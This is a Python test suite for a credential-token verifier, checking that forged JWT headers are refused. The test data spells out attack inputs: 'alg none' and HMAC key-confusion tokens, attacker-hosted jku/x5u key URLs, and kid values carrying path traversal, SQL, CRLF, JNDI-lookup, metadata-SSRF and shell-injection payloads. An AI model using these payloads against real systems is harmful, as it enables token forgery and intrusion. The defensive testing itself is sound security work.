# SPDX-License-Identifier: Apache-2.0
"""Tokens whose headers ask for something: another algorithm, another key, another meaning. None is taken.

Each token here is well signed, or signed as its header says; so only the defence named can refuse it.
"""

import hashlib
import hmac
import json
from base64 import urlsafe_b64decode
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from issuer_world import ISSUED_AT, NOW, IssuerWorld
from samples import golden_document

from laurel import verify
from laurel.errors import LaurelError, Unreadable
from laurel.proof import jose, sd_jwt, sd_jwt_vc, vc_jwt, vc_sd_jwt, vp_jwt
from laurel.proof.encodings import to_base64url
from laurel.proof.keys import SigningKey
from laurel.status import token
from laurel.strictjson import JsonValue

MALLORY = SigningKey.generate()


def signed(header: dict[str, Any], payload: bytes, sign: Callable[[bytes], bytes]) -> str:
    """A token with exactly this header."""
    signing_input = f"{to_base64url(json.dumps(header).encode())}.{to_base64url(payload)}"
    return f"{signing_input}.{to_base64url(sign(signing_input.encode()))}"


def mac(secret: bytes, algorithm: str = "sha256") -> Callable[[bytes], bytes]:
    return lambda message: hmac.new(secret, message, algorithm).digest()


@pytest.fixture
def college() -> IssuerWorld:
    return IssuerWorld()


def payload(college: IssuerWorld) -> bytes:
    return json.dumps(golden_document(issuer_id=college.did)).encode()


def verdict(college: IssuerWorld, text: str) -> verify.Verdict:
    """Ask with a network that serves the college and listens for anything else."""
    allowed = set(college.documents)
    found = verify.check(text.encode(), fetch=college.fetch, at=NOW)
    assert set(college.asked) <= allowed, "an address out of a header was asked"
    return found.verdict


GOOD = {verify.Verdict.GENUINE}


@pytest.mark.parametrize("typ", ["JWT", "vc+jwt"])
def test_the_plain_one_is_taken(college: IssuerWorld, typ: str) -> None:
    header = {"alg": "EdDSA", "typ": typ, "kid": college.key.id}

    assert verdict(college, signed(header, payload(college), college.key.sign)) in GOOD


class TestAlgorithm:
    """A11: it comes from the issuer's key, never from the token."""

    @pytest.mark.parametrize(
        "alg",
        [
            "none", "None", "NONE", "nOnE", "", " ", "HS256", "HS384", "HS512", "ES256", "ES384", "ES512", "ES256K",
            "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "Ed448", "eddsa", "EDDSA", "EdDSA ", "dir", "A128KW",
            None, 0, True, [], ["EdDSA"], {}, {"EdDSA": 1},
        ],
    )  # fmt: skip
    @pytest.mark.parametrize("signature", ["theirs", "empty", "other"])
    def test_of_the_header_decides_nothing(self, college: IssuerWorld, alg: Any, signature: str) -> None:
        sign = {"theirs": college.key.sign, "empty": lambda _: b"", "other": MALLORY.sign}[signature]
        for typ in ("JWT", "vc+jwt"):
            text = signed({"alg": alg, "typ": typ, "kid": college.key.id}, payload(college), sign)
            assert verdict(college, text) not in GOOD

    def test_none_is_refused_without_its_signature_too(self, college: IssuerWorld) -> None:
        header = to_base64url(json.dumps({"alg": "none", "kid": college.key.id}).encode())
        for text in (
            f"{header}.{to_base64url(payload(college))}.",
            f"{header}.{to_base64url(payload(college))}",
        ):
            assert verdict(college, text) not in GOOD

    @pytest.mark.parametrize("algorithm", ["HS256", "HS384", "HS512"])
    @pytest.mark.parametrize("kind", ["ed25519", "p256", "rsa2048"])
    def test_with_the_public_key_for_a_secret_is_refused(
        self, college: IssuerWorld, algorithm: str, kind: str
    ) -> None:
        key = SigningKey.generate(kind).with_id("did:web:fernhill.example#key-1")  # type: ignore[arg-type]  # as listed
        jwk = key.public.to_jwk()
        raw = urlsafe_b64decode(jwk.get("x", jwk.get("n", "")) + "==")
        pem = _pem(key)
        for secret in (
            key.public.material,
            raw,
            pem,
            json.dumps(jwk).encode(),
            key.public.to_multikey().encode(),
            b"",
        ):
            text = signed(
                {"alg": algorithm, "kid": key.id}, payload(college), mac(secret, f"sha{algorithm[2:]}")
            )
            with pytest.raises(LaurelError):
                jose.verify(jose.decode(text), key.public)

    @pytest.mark.parametrize("kind", ["ed25519", "p256", "p384", "p521", "rsa2048"])
    def test_of_one_kind_of_key_goes_with_no_other(self, college: IssuerWorld, kind: str) -> None:
        key = SigningKey.generate(kind)  # type: ignore[arg-type]  # as listed
        for alg in ("EdDSA", "Ed25519", "ES256", "ES384", "ES512", "RS256"):
            jws = jose.decode(signed({"alg": alg}, payload(college), key.sign))
            fits = alg == key.jose_algorithm or (kind == "ed25519" and alg == "Ed25519")
            if fits:
                jose.verify(jws, key.public)
            else:
                with pytest.raises(LaurelError):
                    jose.verify(jws, key.public)


def _pem(key: SigningKey) -> bytes:
    from laurel.proof.keys import _load

    form = serialization.PublicFormat.SubjectPublicKeyInfo
    return _load(key.public.algorithm, key.public.material).public_bytes(serialization.Encoding.PEM, form)


class TestKeySources:
    """A12: no header brings a key, and no name of one leads anywhere but to the issuer's own document."""

    @pytest.mark.parametrize(
        "member",
        [
            {"jku": "https://mallory.example/keys"},
            {"x5u": "https://mallory.example/cert"},
            {"x5c": ["MIIB"]},
            {"x5t": "AAAA"},
            {"x5t#S256": "AAAA"},
            {"jwk": MALLORY.public.to_jwk()},
            {"jwk": MALLORY.public.to_jwk(), "kid": ...},
            {"jwk": MALLORY.to_private_jwk(), "kid": ...},
            {"jwk": MALLORY.public.to_jwk(), "jku": "https://mallory.example/keys", "kid": ...},
            {"kid": ...},
        ],
    )
    @pytest.mark.parametrize("typ", ["JWT", "vc+jwt"])
    def test_in_a_header_count_for_nothing(
        self, college: IssuerWorld, member: dict[str, Any], typ: str
    ) -> None:
        header = {"alg": "EdDSA", "typ": typ, "kid": college.key.id} | member
        header = {name: value for name, value in header.items() if value is not ...}

        assert verdict(college, signed(header, payload(college), MALLORY.sign)) not in GOOD

    KIDS = (
        "../../../../etc/passwd",
        "/etc/passwd",
        "file:///etc/passwd",
        "key-1' OR '1'='1",
        "key-1'; DROP TABLE keys; --",
        "key-1\r\nX-Injected: yes",
        "key-1\x00",
        "${jndi:ldap://mallory.example/a}",
        "{{7*7}}",
        "| /usr/bin/id",
        "https://mallory.example/keys#key-1",
        "http://169.254.169.254/latest/meta-data#key",
        "https://fernhill.example@mallory.example#key-1",
        "did:web:mallory.example#key-1",
        "did:web:fernhill.example%2F..%2Fmallory#key-1",
        "did:web:fernhill.example:..:mallory#key-1",
        "did:web:127.0.0.1#key-1",
        "did:key:z6Mk#z6Mk",
        "#key-2",
        "#",
        "##key-1",
        "",
        " ",
        "a" * 5_000,
    )

    @pytest.mark.parametrize("kid", KIDS, ids=range(len(KIDS)))
    @pytest.mark.parametrize("own", [True, False], ids=["their own signature", "another signature"])
    def test_by_strange_names_lead_nowhere(self, college: IssuerWorld, kid: str, own: bool) -> None:
        for typ in ("JWT", "vc+jwt"):
            sign = college.key.sign if own else MALLORY.sign
            text = signed({"alg": "EdDSA", "typ": typ, "kid": kid}, payload(college), sign)
            found = verify.check(text.encode(), fetch=_deaf, at=NOW)
            assert found.verdict not in GOOD

    def test_of_a_hundred_thousand_letters_are_not_read(self, college: IssuerWorld) -> None:
        text = signed({"alg": "EdDSA", "kid": "k" * 100_000}, payload(college), college.key.sign)

        with pytest.raises(Unreadable):
            verify.read(text.encode())

    @pytest.mark.parametrize("kid", [7, True, [], {}, ["did:web:fernhill.example#key-1"], 1e9])
    def test_that_are_no_text_are_refused(self, college: IssuerWorld, kid: Any) -> None:
        assert (
            verdict(college, signed({"alg": "EdDSA", "kid": kid}, payload(college), college.key.sign))
            not in GOOD
        )


class TestExtensions:
    """A13: what changes the meaning of a token is refused, whether or not the signature holds."""

    @pytest.mark.parametrize(
        "member",
        [
            {"crit": ["exp"]},
            {"crit": ["exp"], "exp": 1},
            {"crit": []},
            {"crit": ["b64"], "b64": False},
            {"crit": None},
            {"b64": False},
            {"b64": True},
            {"zip": "DEF"},
            {"enc": "A256GCM"},
        ],
    )
    @pytest.mark.parametrize("typ", ["JWT", "vc+jwt"])
    def test_are_refused(self, college: IssuerWorld, member: dict[str, Any], typ: str) -> None:
        header = {"alg": "EdDSA", "typ": typ, "kid": college.key.id} | member

        assert verdict(college, signed(header, payload(college), college.key.sign)) not in GOOD

    def test_an_unencoded_payload_is_refused(self, college: IssuerWorld) -> None:
        header = to_base64url(json.dumps({"alg": "EdDSA", "b64": False, "crit": ["b64"]}).encode())
        raw = payload(college).decode()
        signature = to_base64url(college.key.sign(f"{header}.{raw}".encode()))

        with pytest.raises(LaurelError):
            jose.verify(jose.decode(f"{header}.{raw}.{signature}"), college.key.public)


CLAIMS: dict[str, Any] = {"iss": "did:web:fernhill.example", "vct": "https://fernhill.example/types/diploma"}
PRESENTATION: dict[str, Any] = {
    "@context": ["https://www.w3.org/ns/credentials/v2"],
    "type": ["VerifiablePresentation"],
    "holder": "did:web:fernhill.example",
}


def tokens(college: IssuerWorld) -> dict[str, tuple[str, Callable[[str], object]]]:
    """Each kind of token, well made, with the door that reads it."""
    key = college.key
    credential = golden_document(issuer_id=college.did)
    presentation = PRESENTATION | {"holder": college.did}
    claims = CLAIMS | {"iss": college.did, "cnf": vc_sd_jwt.confirmation(key.public)}
    asked: dict[str, Any] = {"audience": "https://v.example", "nonce": "n-1", "issued_at": NOW}
    plain = sd_jwt_vc.sign(claims, key)
    shown = sd_jwt.present(plain, [], key=key, **asked)
    listing = token.sign(
        key, uri="https://fernhill.example/s", statuses={}, bits=1, length=8, issued_at=ISSUED_AT
    )

    def bound(text: str) -> object:
        # The token in question takes the place of the key binding.
        read = sd_jwt.read(plain + text.partition("~")[0])
        return sd_jwt.verify_binding(read, audience="https://v.example", nonce="n-1", at=NOW)

    return {
        "vc+jwt": (vc_jwt.sign(credential, key, profile="vc-jose-cose"), _profile("vc-jose-cose")),
        "JWT": (vc_jwt.sign(credential, key), _profile("open-badges-3.0")),
        "vp+jwt": (vp_jwt.sign(presentation, key, **asked), vp_jwt.read),
        "vc+sd-jwt": (vc_sd_jwt.sign(credential, key), vc_sd_jwt.read),
        "vp+sd-jwt": (
            vc_sd_jwt.sign_presentation(presentation, key, **asked),
            vc_sd_jwt.read_presentation,
        ),
        "dc+sd-jwt": (plain, sd_jwt_vc.read),
        "kb+jwt": (shown.rpartition("~")[2], bound),
        "statuslist+jwt": (listing, token.read),
    }


def _profile(wanted: str) -> Callable[[str], object]:
    def read(text: str) -> object:
        if vc_jwt.read(text).profile != wanted:
            raise Unreadable("another profile")
        return wanted

    return read


def retyped(text: str, typ: JsonValue, key: SigningKey) -> str:
    """The same token under another type, well signed."""
    first, tilde, rest = text.partition("~")
    jws = jose.decode(first)
    header = {name: value for name, value in jws.header.items() if name not in ("typ", "cty")} | {"typ": typ}
    return jose.encode(header, jws.payload, key) + tilde + rest


def opens(door: Callable[[str], object], text: str) -> bool:
    try:
        door(text)
    except LaurelError:
        return False
    return True


class TestTypes:
    """A13: each kind of token passes one door, its own."""

    def test_of_a_token_open_their_own_door_only(self, college: IssuerWorld) -> None:
        made = tokens(college)

        opened = {
            (kind, door)
            for kind, (text, _) in made.items()
            for door, (_, read) in made.items()
            if opens(read, text)
        }

        assert opened == {(kind, kind) for kind in made}
        assert len(made) == 8

    def test_that_lie_make_nothing_genuine(self, college: IssuerWorld) -> None:
        """The content of one kind under the type of another, signed by the issuer's own key."""
        made = tokens(college)
        genuine = set()
        for kind, (text, _) in made.items():
            for typ in made:
                for spelling in (typ, typ.upper(), f"application/{typ}"):
                    if verdict(college, retyped(text, spelling, college.key)) in GOOD:
                        genuine.add((kind, typ))

        own = {(kind, kind) for kind in ("vc+jwt", "JWT", "vc+sd-jwt", "dc+sd-jwt")}
        # Both profiles hold the same credential, and the type says which it is; each is read by its own rules.
        assert genuine - own <= {("JWT", "vc+jwt"), ("vc+jwt", "JWT")}
        assert own <= genuine

    @pytest.mark.parametrize(
        "typ", ["at+jwt", "JOSE", "JWE", "secevent+jwt", "vc", "jwt+vc", "", " JWT", 7, [], None]
    )
    def test_of_nobody_we_know_open_no_door(self, college: IssuerWorld, typ: Any) -> None:
        for text, read in tokens(college).values():
            assert not opens(read, retyped(text, typ, college.key))

    def test_within_types_are_not_looked_for(self, college: IssuerWorld) -> None:
        inner = vc_jwt.sign(golden_document(issuer_id=college.did), college.key, profile="vc-jose-cose")
        for header in ({"typ": "vc+jwt", "cty": "JWT"}, {"typ": "JWT", "cty": "JWT"}, {"typ": "vc+jwt"}):
            text = jose.encode(header | {"kid": college.key.id}, inner.encode(), college.key)
            with pytest.raises(LaurelError):
                verify.read(text.encode())


def _deaf(url: str) -> bytes:
    raise LaurelError(f"{url} was asked.")


def test_the_secret_of_a_mac_is_tried_as_whoever_attacks_would() -> None:
    """The table above would be worthless if its tokens were malformed: such a library must take them."""
    secret = b"secret"
    text = signed({"alg": "HS256"}, b"{}", mac(secret))
    head, body, tail = text.split(".")

    assert hmac.new(secret, f"{head}.{body}".encode(), hashlib.sha256).digest() == urlsafe_b64decode(
        tail + "="
    )
